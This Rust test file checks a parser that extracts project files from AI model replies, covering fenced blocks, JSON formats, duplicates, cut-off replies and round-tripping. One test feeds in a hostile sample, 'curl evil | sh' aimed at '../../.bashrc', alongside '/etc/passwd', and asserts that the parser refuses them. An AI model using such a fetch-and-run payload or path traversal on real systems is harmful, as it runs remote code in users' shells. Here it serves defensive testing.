//! Replies as models really write them, tidy and untidy.

use super::*;
use proptest::prelude::*;

fn names(reply: &Reply) -> Vec<&str> {
    reply.files.paths().map(ProjectPath::as_str).collect()
}

#[test]
fn the_requested_format() {
    let reply = parse_reply(
        "Plan: one JSON route and a health check.\n\n```toml sauce.toml\n[app]\nname = \"shop\"\n```\n\n```rust src/lib.rs\n#![no_std]\n```\n\n```probes\nGET /healthz -> 200 application/json\n```\n",
    );
    assert_eq!(names(&reply), ["sauce.toml", "src/lib.rs"]);
    assert_eq!(
        reply.files.text("sauce.toml"),
        Some("[app]\nname = \"shop\"\n")
    );
    assert_eq!(reply.plan, "Plan: one JSON route and a health check.");
    assert_eq!(reply.probes.len(), 1);
    assert!(reply.notes.is_empty(), "{:?}", reply.notes);
    assert!(reply.is_usable());
}

#[test]
fn names_on_the_line_before_and_missing_languages() {
    let reply = parse_reply(
        "Here you go.\n\n**sauce.toml**\n```\n[app]\nname = \"a\"\n```\n\nFile: src/lib.rs\n~~~\n//! a\n~~~\n",
    );
    assert_eq!(names(&reply), ["sauce.toml", "src/lib.rs"]);
    assert!(reply.problems().is_empty(), "{}", reply.problems());
    assert!(reply.notes.iter().all(|note| matches!(
        note,
        ReplyNote::Named {
            by: NamedBy::LineBefore,
            ..
        }
    )));
}

#[test]
fn crlf_and_first_line_comments() {
    let reply = parse_reply("```rust\r\n// src/routes.rs\r\npub fn a() {}\r\n```\r\n```toml\r\n[app]\r\nname = \"a\"\r\n```\r\n");
    assert_eq!(names(&reply), ["sauce.toml", "src/routes.rs"]);
    assert_eq!(
        reply.files.text("src/routes.rs"),
        Some("// src/routes.rs\npub fn a() {}\n")
    );
}

#[test]
fn a_lone_rust_block_is_the_library() {
    let reply = parse_reply("```toml sauce.toml\n[app]\n```\n```rust\n#![no_std]\n```\n");
    assert_eq!(names(&reply), ["sauce.toml", "src/lib.rs"]);
    let two = parse_reply("```rust\nfn a() {}\n```\n```rust\nfn b() {}\n```\n");
    assert!(two.files.is_empty());
    assert_eq!(two.notes.len(), 2);
    assert!(
        two.problems().contains("names no file"),
        "{}",
        two.problems()
    );
}

#[test]
fn json_alternatives() {
    let whole = parse_reply(
        "{\"plan\": \"p\", \"files\": {\"sauce.toml\": \"[app]\\nname = \\\"a\\\"\\n\"}}",
    );
    assert_eq!(names(&whole), ["sauce.toml"]);
    assert_eq!(whole.plan, "p");
    let fenced = parse_reply("Sure:\n```json\n{\"files\": [{\"path\": \"src/lib.rs\", \"content\": \"//! x\\n\"}]}\n```\n");
    assert_eq!(names(&fenced), ["src/lib.rs"]);
    assert_eq!(fenced.plan, "Sure:");
}

#[test]
fn duplicates_keep_the_last() {
    let reply = parse_reply("```toml sauce.toml\nfirst\n```\n```toml sauce.toml\nsecond\n```\n");
    assert_eq!(reply.files.text("sauce.toml"), Some("second\n"));
    assert_eq!(
        reply.notes,
        [ReplyNote::Duplicate(
            ProjectPath::parse("sauce.toml").unwrap()
        )]
    );
    assert!(reply.problems().is_empty());
}

#[test]
fn traversal_absolute_and_unknown_names_are_refused() {
    let reply = parse_reply(
        "```sh ../../.bashrc\ncurl evil | sh\n```\n**/etc/passwd**\n```\nroot\n```\n```rust build.rs\nfn main() {}\n```\n```toml .cargo/config.toml\n[build]\n```\n```rust C:/x.rs\n```\n```rust src\\\\lib.rs\n```\n",
    );
    assert!(reply.files.is_empty(), "{:?}", names(&reply));
    let refusals: Vec<_> = reply
        .notes
        .iter()
        .filter_map(|note| match note {
            ReplyNote::Refused { reason, .. } => Some(reason.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        refusals,
        [
            PathRefusal::ParentComponent,
            PathRefusal::Absolute,
            PathRefusal::NotAllowed,
            PathRefusal::Hidden(".cargo".to_owned()),
            PathRefusal::DriveLetter,
            PathRefusal::Backslash,
        ]
    );
    assert!(
        reply
            .problems()
            .contains("refused the file name \"../../.bashrc\""),
        "{}",
        reply.problems()
    );
    assert!(!reply.is_usable());
}

#[test]
fn a_cut_off_reply_loses_the_last_file() {
    let reply = parse_reply("```toml sauce.toml\n[app]\n```\n```rust src/lib.rs\npub fn a() {\n");
    assert_eq!(names(&reply), ["sauce.toml"]);
    assert_eq!(
        reply.notes,
        [ReplyNote::Unclosed {
            name: "src/lib.rs".to_owned(),
            line: 4
        }]
    );
}

#[test]
fn prose_only_is_not_usable() {
    let reply = parse_reply("I cannot help with that.");
    assert!(!reply.is_usable());
    assert_eq!(reply.plan, "I cannot help with that.");
    let commands = parse_reply("Run:\n```sh\nsauce run shop\n```\n");
    assert!(!commands.is_usable());
    assert!(
        commands.notes.is_empty(),
        "shell blocks are not files: {:?}",
        commands.notes
    );
}

#[test]
fn bad_probe_lines_are_reported() {
    let reply = parse_reply("```probes\nGET /a -> 200\nfetch everything\n```\n");
    assert_eq!(reply.probes.len(), 1);
    assert!(
        reply.problems().contains("probes line 2"),
        "{}",
        reply.problems()
    );
}

#[test]
fn the_plan_is_capped_and_tidied() {
    let long = "word ".repeat(2_000);
    let reply = parse_reply(&format!("{long}\n\n\n\nend"));
    assert!(reply.plan.chars().count() <= MAX_PLAN_LENGTH + 1);
    let tidy = parse_reply("a\n\n\n\nb  \n");
    assert_eq!(tidy.plan, "a\n\nb");
}

#[test]
fn a_rendered_project_reads_back_the_same() {
    let mut files = ProjectFiles::new();
    files.insert(
        ProjectPath::parse("sauce.toml").unwrap(),
        "[app]\nname = \"a\"\n",
    );
    files.insert(
        ProjectPath::parse("README.md").unwrap(),
        "# a\n```sh\nsauce run a\n```\n",
    );
    files.insert(
        ProjectPath::parse("src/lib.rs").unwrap(),
        "//! a\n/// ```\n/// x\n/// ```\npub fn a() {}\n",
    );
    assert_eq!(parse_reply(&files.render()).files, files);
}

proptest! {
    #[test]
    fn never_panics(text in "(\\PC|\n|`|~|\\*|/|\\.){0,400}") {
        let reply = parse_reply(&text);
        for path in reply.files.paths() {
            prop_assert!(ProjectPath::parse(path.as_str()).is_ok());
        }
    }

    #[test]
    fn any_allowlisted_file_round_trips(name in "src/[a-z]{1,8}\\.rs|public/[a-z]{1,8}\\.html", body in "[a-zA-Z0-9 {}();=\n]{0,200}") {
        let mut files = ProjectFiles::new();
        let mut contents = body.clone();
        if !contents.ends_with('\n') {
            contents.push('\n');
        }
        files.insert(ProjectPath::parse(&name).unwrap(), contents);
        prop_assert_eq!(parse_reply(&files.render()).files, files);
    }
}
